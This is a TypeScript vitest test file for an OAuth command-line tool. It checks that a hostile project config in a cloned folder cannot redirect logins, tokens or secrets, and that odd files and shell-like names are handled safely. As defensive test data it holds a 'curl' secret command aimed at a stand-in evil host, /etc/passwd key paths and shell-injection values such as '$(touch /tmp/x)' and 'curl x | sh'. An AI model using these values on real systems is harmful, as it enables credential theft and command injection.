import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { toJsonSchema } from '@valibot/to-json-schema';
import { describe, expect, test } from 'vitest';

import { entrySchema } from '../../src/providers/entry-schema.js';
import { projectSchemas } from '../../src/providers/project-schema.js';
import { newcomer, startAcme, type Newcomer } from '../support/newcomer.js';
import type { Provider } from '../support/provider.js';
import type { Outcome } from '../support/run.js';
import { approves, browserOf } from '../support/user-agents.js';

/** One for each member of a person's entry: what a repository would write there to get code, verifier, tokens or a secret. */
function hostileMembers(evil: string): Readonly<Record<string, object>> {
  const set = (name: string) => ({ metadata: { set: { [name]: `${evil}/${name}` } } });
  return {
    preset: { preset: 'github' },
    'client.authentication': { client: { authentication: 'client_secret_post', secret: 'empty' } },
    'client.secret': { client: { secret: { command: `curl ${evil}` } } },
    'client.key': { client: { key: { file: '/etc/passwd' } } },
    'client.certificate': { client: { certificate: { file: '/etc/passwd' } } },
    'client.signedRequests': { client: { signedRequests: true } },
    'client.formEncoding': { client: { formEncoding: false } },
    'redirect.host': { redirect: { host: 'localhost' } },
    'redirect.uri': { redirect: { uri: 'https://evil.test/callback' } },
    'metadata.from': { metadata: { from: `${evil}/.well-known/openid-configuration` } },
    'metadata.set': set('token_endpoint'),
    'metadata.issuer': { metadata: { issuer: 'tenant' } },
    'authorization.parameters': { authorization: { parameters: { redirect_uri: evil } } },
    'authorization.scopeSeparator': { authorization: { scopeSeparator: ',' } },
    'authorization.alwaysScope': { authorization: { alwaysScope: 'admin' } },
    'authorization.nonce': { authorization: { nonce: false } },
    'authorization.pushed': {
      authorization: { pushed: true },
      ...set('pushed_authorization_request_endpoint'),
    },
    'authorization.deniedErrors': { authorization: { deniedErrors: ['x'] } },
    'token.parameters': { token: { parameters: { audience: evil } } },
    'token.refreshEndpoint': { token: { refreshEndpoint: `${evil}/token` } },
    'token.at': { token: { at: 'x' } },
    'token.scopeSeparator': { token: { scopeSeparator: ',' } },
    'token.lifetime': { token: { lifetime: 31_536_000 } },
    'token.errorsWithStatus200': { token: { errorsWithStatus200: true } },
    'token.typeless': { token: { typeless: true } },
    'token.idToken': { token: { idToken: 'ignored' } },
    'userinfo.from': { userinfo: { from: 'token' } },
    'userinfo.method': { userinfo: { method: 'POST' }, ...set('userinfo_endpoint') },
    'userinfo.headers': { userinfo: { headers: { 'x-evil': 'yes' } } },
    'userinfo.at': { userinfo: { at: 'x' } },
    'userinfo.sub': { userinfo: { sub: 'x' } },
    'userinfo.username': { userinfo: { username: 'x' } },
    'userinfo.email': { userinfo: { email: 'x' } },
    'userinfo.name': { userinfo: { name: 'x' } },
    'revocation.parameters': { revocation: { parameters: { x: evil } } },
    'revocation.tokenParameter': { revocation: { tokenParameter: 'x' } },
    dpop: { dpop: true },
    // More of the kind, which no schema lists.
    'metadata.set.jwks_uri': set('jwks_uri'),
    'metadata.set.authorization_endpoint': set('authorization_endpoint'),
    'metadata.set.revocation_endpoint': set('revocation_endpoint'),
    'metadata.set.end_session_endpoint': set('end_session_endpoint'),
    'metadata.set.mtls_endpoint_aliases': {
      metadata: { set: { mtls_endpoint_aliases: { token_endpoint: evil } } },
    },
    'a member of a later version': { requestUri: evil },
    'a spelling': { Metadata: { set: { token_endpoint: evil } } },
    'a name with a zero width space': { 'meta\u200Bdata': { set: { token_endpoint: evil } } },
  };
}

/** `client.secret`, …: of groups their members, else the member itself. */
function membersOf(schema: Parameters<typeof toJsonSchema>[0]): string[] {
  const { properties = {} } = toJsonSchema(schema, { errorMode: 'ignore' });
  return Object.entries(properties).flatMap(([name, field]) => {
    const inner = typeof field === 'object' ? Object.keys(field.properties ?? {}) : [];
    return inner.length === 0 ? [name] : inner.map((one) => `${name}.${one}`);
  });
}

const commands: readonly (readonly string[])[] = [
  ['login'],
  ['login', '-p', 'work'],
  ['login', '-p', 'work', '--client-secret-env', 'HUSH'],
  ['token'],
  ['token', '--force-refresh'],
  ['token', '--login'],
  ['whoami'],
  ['logout'],
  ['logout', '--all', '--end-session', '--no-browser'],
  ['switch', '-p', 'work', '-a', 'jane'],
  ['status', '-p', 'work'],
];

interface Clone extends Newcomer {
  readonly evil: Provider;
  readonly file: string;
  readonly run: (argv: readonly string[]) => Promise<Outcome>;
  readonly configuration: () => string;
}

/** Somebody in a folder that a stranger has filled. */
async function clone(): Promise<Clone> {
  const { acme, machine } = await newcomer({
    AUTHCLI_STORE: 'file',
    AUTHCLI_PROMPT: 'none',
    HUSH: 'of-the-person',
  });
  const evil = await startAcme();
  const folder = join(machine.folder, 'clone');
  mkdirSync(folder);
  const world = { ...browserOf(approves), workingFolder: () => folder };
  return {
    acme,
    machine,
    evil,
    file: join(folder, '.authcli.json'),
    run: (argv) => machine.run(argv, world),
    configuration: () => readFileSync(join(machine.folder, 'config', 'config.json'), 'utf8'),
  };
}

describe('a project that says more than a project may', () => {
  test('is tried with every member that an entry of a person has', () => {
    const mayBeSaid = membersOf(projectSchemas.named);
    const tried = Object.keys(hostileMembers('https://evil.test'));
    expect(
      membersOf(entrySchema).filter((member) => !mayBeSaid.includes(member) && !tried.includes(member)),
    ).toEqual([]);
    expect(mayBeSaid).toEqual(['issuer', 'clientId', 'scope', 'redirect.ports', 'redirect.path']);
  });

  test.each(Object.keys(hostileMembers('')))('leads nobody astray by %s', async (member) => {
    const { acme, evil, file, run, configuration } = await clone();
    const before = configuration();
    const entry = { issuer: acme.issuer, clientId: 'cli', ...hostileMembers(evil.issuer)[member] };
    const host = new URL(acme.issuer).host;
    writeFileSync(
      file,
      JSON.stringify({ defaultProvider: 'work', providers: { work: entry, [host]: entry } }),
    );
    for (const argv of commands) {
      const outcome = await run(argv);
      const isDone = argv[0] === 'logout';
      expect([argv, outcome.exitCode, outcome.stdout]).toEqual([
        argv,
        isDone && argv.includes('--all') ? 0 : 2,
        '',
      ]);
      expect(outcome.stderr.match(/^error: /gm) ?? []).toHaveLength(outcome.exitCode === 0 ? 0 : 1);
    }
    expect(acme.requests).toEqual([]);
    expect(configuration()).toBe(before);

    // Typed in full, with the project's entry under the name that it gets.
    const typed = ['login', '-q', '--prompt', 'consent', '--issuer', acme.issuer, '--client-id', 'cli'];
    expect(await run(typed)).toMatchObject({ exitCode: 0 });
    expect(await run(['token', '-p', host])).toMatchObject({ exitCode: 0 });
    expect(await run(['logout', '-p', host])).toMatchObject({ exitCode: 0 });
    const saved: { providers: object } = JSON.parse(before);
    Object.assign(saved, { store: 'file' });
    Object.assign(saved.providers, {
      [host]: { issuer: acme.issuer, clientId: 'cli', scope: 'openid profile email offline_access' },
    });
    expect(JSON.parse(configuration())).toEqual(saved);
    expect(evil.requests).toEqual([]);
  });
});

describe('a project file that is not a plain file', () => {
  test.each<[title: string, place: (file: string) => void]>([
    ['a pipe', (file) => execFileSync('mkfifo', [file])],
    ['a device', (file) => symlinkSync('/dev/zero', file)],
    ['a folder', (file) => mkdirSync(file)],
    ['a link to itself', (file) => symlinkSync(file, file)],
    ['a link to nowhere', (file) => symlinkSync('/nowhere', file)],
    ['50 MB', (file) => writeFileSync(file, Buffer.alloc(50 * 1024 * 1024, ' '))],
    ['deep', (file) => writeFileSync(file, '['.repeat(100_000))],
    ['not UTF-8', (file) => writeFileSync(file, Buffer.from([0x7b, 0xff, 0x7d]))],
  ])('such as %s stops nobody who uses a provider of their own', async (_title, place) => {
    const { file, run } = await clone();
    rmSync(file, { force: true });
    place(file);
    const { exitCode, stdout, stderr } = await run(['token', '-p', 'acme']);
    expect({ exitCode, stdout }).toEqual({ exitCode: 4, stdout: '' });
    expect(stderr).toMatch(/^(warning: .*\n)?error: not signed in to acme\nhint: authcli login -p acme\n$/);
  });
});

test('thousands of entries that say too much are one warning', async () => {
  const { acme, run, file } = await clone();
  const entry = { issuer: acme.issuer, clientId: 'cli', dpop: true };
  const providers = Object.fromEntries(Array.from({ length: 1_000 }, (_, at) => [`p${at}`, entry]));
  writeFileSync(file, JSON.stringify({ providers }));
  expect((await run(['token', '-p', 'acme'])).stderr).toBe(
    `warning: not used: ${file}: providers.p0 says more than a project may: dpop (and 999 more)\n` +
      'error: not signed in to acme\nhint: authcli login -p acme\n',
  );
});

test('a name and a path that a shell would run are quoted where they are shown', async () => {
  const { acme, run, file } = await clone();
  const providers = { work: { issuer: acme.issuer, clientId: '$(touch /tmp/x); `id`', metadata: {} } };
  writeFileSync(file, JSON.stringify({ providers }));
  const { stderr } = await run(['token', '-p', 'work']);
  expect(stderr.split('\n')[1]).toBe(
    `hint: authcli provider add work --issuer ${acme.issuer} --client-id '$(touch /tmp/x); \`id\`'`,
  );
  writeFileSync(
    file,
    JSON.stringify({ providers: { work: { preset: 'acme; curl x | sh #', clientId: 'c' } } }),
  );
  expect(await run(['login', '-p', 'work'])).toMatchObject({
    exitCode: 2,
    stderr: `error: ${file}: providers.work.preset must be the name of a preset\nhint: correct it in ${file}\n`,
  });
});
